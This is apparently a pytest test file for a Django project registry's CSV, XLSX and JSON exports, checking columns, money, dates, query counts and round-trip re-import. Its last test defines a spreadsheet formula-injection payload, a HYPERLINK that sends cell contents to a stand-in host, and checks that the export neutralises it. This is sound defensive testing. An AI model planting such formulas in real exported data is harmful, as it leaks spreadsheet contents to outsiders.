"""Exports of the registry: CSV, XLSX and JSON with the import's columns, and they import again unchanged."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from projects.exports import export_response
from projects.imports import project_import
from projects.models import Project, ProjectPartner
from projects.resources import COLUMNS
from tests.factories import (
    OrganisationFactory,
    ProjectFactory,
    ProjectPartnerFactory,
    ThemeFactory,
    UserFactory,
)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def projects(region):
    first = ProjectFactory(
        region=region,
        code="2014-2020.2.04.21-0013",
        name="Sotsiaalteenuste analüüs; Lääne-Viru",
        goal='Mitu rida\nja "jutumärgid", koma, semikoolon;',
        start_date=date(2021, 8, 2),
        end_date=date(2022, 8, 1),
        total_cost=Decimal("29952.00"),
        grant_amount=Decimal("25000.00"),
    )
    ProjectPartnerFactory(project=first, role=ProjectPartner.Role.BENEFICIARY, organisation__name="Liit")
    ProjectPartnerFactory(project=first, role=ProjectPartner.Role.PARTNER, organisation__name="Rõuge Vallavalitsus")
    ProjectPartnerFactory(project=first, role=ProjectPartner.Role.PARTNER, organisation__name="MTÜ Abi")
    first.themes.set([ThemeFactory(slug="sotsiaalteenused")])
    second = ProjectFactory(
        region=region, code="HOP-1", total_cost=Decimal("201669.95"), grant_amount=Decimal("201669.95")
    )
    return [first, second]


def _csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheet programs then read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_csv_export_has_the_import_columns_money_and_dates(projects):
    response = export_response(Project.objects.all(), "csv")

    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = {row["Project code"]: row for row in _csv_rows(response)}
    first = rows["2014-2020.2.04.21-0013"]
    assert list(first) == COLUMNS
    assert first["Total budget"] == "29952.00"
    assert first["Grant"] == "25000.00"
    assert "EU contribution" not in first  # the grant is the fund's, not always the EU's
    assert first["Co-financing rate"] == "83.5"
    assert first["Start date"] == "2021-08-02"
    assert first["Beneficiary"] == "Liit"
    assert set(first["Partners"].split("; ")) == {"Rõuge Vallavalitsus", "MTÜ Abi"}
    assert first["Themes"] == "sotsiaalteenused"
    assert first["Goal"] == 'Mitu rida\nja "jutumärgid", koma, semikoolon;'
    assert rows["HOP-1"]["Co-financing rate"] == "100.0"


def test_xlsx_export_opens_as_a_workbook(projects):
    response = export_response(Project.objects.all(), "xlsx")

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 3


def test_xlsx_export_drops_control_characters_a_worksheet_cannot_hold(region):
    # (NUL itself never reaches the database: forms refuse it and PostgreSQL cannot store it.)
    ProjectFactory(region=region, goal="Vertical\x0btab and \x01start of heading")

    response = export_response(Project.objects.all(), "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=COLUMNS.index("Goal") + 1).value == "Verticaltab and start of heading"


def test_json_export_is_a_list_of_objects(projects):
    response = export_response(Project.objects.all(), "json")

    data = json.loads(response.content)
    assert {item["Project code"] for item in data} == {"2014-2020.2.04.21-0013", "HOP-1"}
    assert {item["Total budget"] for item in data} == {"29952.00", "201669.95"}


def test_an_unknown_format_is_a_value_error(projects):
    with pytest.raises(ValueError):
        export_response(Project.objects.all(), "pdf")


def test_export_costs_the_same_queries_for_two_or_twenty_projects(region, projects, django_assert_num_queries):
    # count (import-export pages through the queryset), projects with funder, programme, measure and region,
    # partners with their organisations, themes.
    with django_assert_num_queries(4):
        export_response(Project.objects.all(), "csv")
    for n in range(18):
        project = ProjectFactory(region=region, code=f"more-{n}")
        ProjectPartnerFactory(project=project, role=ProjectPartner.Role.PARTNER)
    with django_assert_num_queries(4):
        export_response(Project.objects.all(), "csv")


@pytest.mark.parametrize(("fmt", "name"), [("csv", "export.csv"), ("xlsx", "export.xlsx")])
def test_an_export_imports_again_without_changes(region, projects, fmt, name):
    before = {p.code: (p.name, p.goal, p.total_cost, p.grant_amount, p.version) for p in Project.objects.all()}
    response = export_response(Project.objects.all(), fmt)

    result = project_import(region=region, file=response.content, file_name=name, dry_run=False, user=UserFactory())

    assert not result.has_errors, (result.file_errors, [r.errors for r in result.error_rows])
    assert [row.action for row in result.rows] == ["unchanged", "unchanged"]
    after = {p.code: (p.name, p.goal, p.total_cost, p.grant_amount, p.version) for p in Project.objects.all()}
    assert after == before


def test_an_export_edited_and_imported_into_another_region_creates_copies(region, other_region, projects):
    # Organisations of the first region are looked up by name everywhere; the codes are new in the other region.
    response = export_response(Project.objects.filter(region=region), "csv")
    text = response.content.decode("utf-8").replace(f",{region.slug},", ",,")

    result = project_import(
        region=other_region, file=text.encode(), file_name="x.csv", dry_run=False, user=UserFactory()
    )

    assert not result.has_errors, [r.errors for r in result.error_rows]
    assert Project.objects.filter(region=other_region).count() == 2
    copy = Project.objects.get(region=other_region, code="2014-2020.2.04.21-0013")
    assert copy.total_cost == Decimal("29952.00")
    assert copy.partners.count() == 3


def test_an_organisation_name_shared_by_two_organisations_asks_for_the_slug(region, projects):
    OrganisationFactory(name="Liit")
    response = export_response(Project.objects.all(), "csv")

    result = project_import(region=region, file=response.content, file_name="x.csv", dry_run=True, user=None)

    [bad] = result.error_rows
    assert any("Beneficiary:" in e and "slug" in e for e in bad.errors)


def test_the_public_export_of_a_region_imports_back_into_it(client, region, other_region, projects):
    ProjectFactory(region=other_region, code="MUJAL-1")

    response = client.get(reverse("projects:export") + f"?region={region.slug}&format=csv")

    assert response.status_code == 200
    codes = {row["Project code"] for row in _csv_rows(response)}
    assert codes == {"2014-2020.2.04.21-0013", "HOP-1"}
    result = project_import(region=region, file=response.content, file_name="r.csv", dry_run=True, user=None)
    assert not result.has_errors and result.unchanged_count == 2


def test_the_registry_export_imports_back_without_duplicating_or_losing_projects_with_no_code(client, region, projects):
    # A project registered without a code, money or dates: the export leaves those cells empty.
    ProjectFactory(
        region=region, code="", slug="ilma-koodita", start_date=None, end_date=None, total_cost=None, grant_amount=None
    )
    ProjectFactory(
        region=region, code="", slug="teine-ilma-koodita", name="Teine", total_cost=Decimal("10.00"), grant_amount=None
    )
    before = {p.slug: (p.code, p.name, p.start_date, p.total_cost, p.grant_amount) for p in Project.objects.all()}
    response = client.get(reverse("projects:export") + f"?region={region.slug}&format=csv")
    rows = _csv_rows(response)
    assert {row["Project code"] for row in rows} == {"2014-2020.2.04.21-0013", "HOP-1", ""}
    unknown = next(row for row in rows if row["Slug"] == "ilma-koodita")
    assert (unknown["Total budget"], unknown["Grant"], unknown["Start date"]) == ("", "", "")

    result = project_import(region=region, file=response.content, file_name="r.csv", dry_run=False, user=UserFactory())

    assert not result.has_errors, (result.file_errors, [r.errors for r in result.error_rows])
    assert [row.action for row in result.rows] == ["unchanged"] * 4
    after = {p.slug: (p.code, p.name, p.start_date, p.total_cost, p.grant_amount) for p in Project.objects.all()}
    assert after == before


FORMULA = '=HYPERLINK("http://example.org/?leak="&A1;"Klõpsa")'


@pytest.mark.parametrize(("fmt", "name"), [("csv", "export.csv"), ("xlsx", "export.xlsx")])
def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(region, fmt, name):
    ProjectFactory(region=region, code="F-1", goal=FORMULA, results="-5 päeva ooteaega, @kõik partnerid")

    response = export_response(Project.objects.all(), fmt)

    if fmt == "csv":
        [row] = _csv_rows(response)
        goal, results = row["Goal"], row["Results"]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        goal_cell = sheet.cell(row=2, column=COLUMNS.index("Goal") + 1)
        assert goal_cell.data_type == "s"  # a string, not a formula
        goal, results = goal_cell.value, sheet.cell(row=2, column=COLUMNS.index("Results") + 1).value
    assert goal == "'" + FORMULA
    assert results == "'-5 päeva ooteaega, @kõik partnerid"
    result = project_import(region=region, file=response.content, file_name=name, dry_run=False, user=UserFactory())
    assert [row.action for row in result.rows] == ["unchanged"]
    assert Project.objects.get(code="F-1").goal == FORMULA
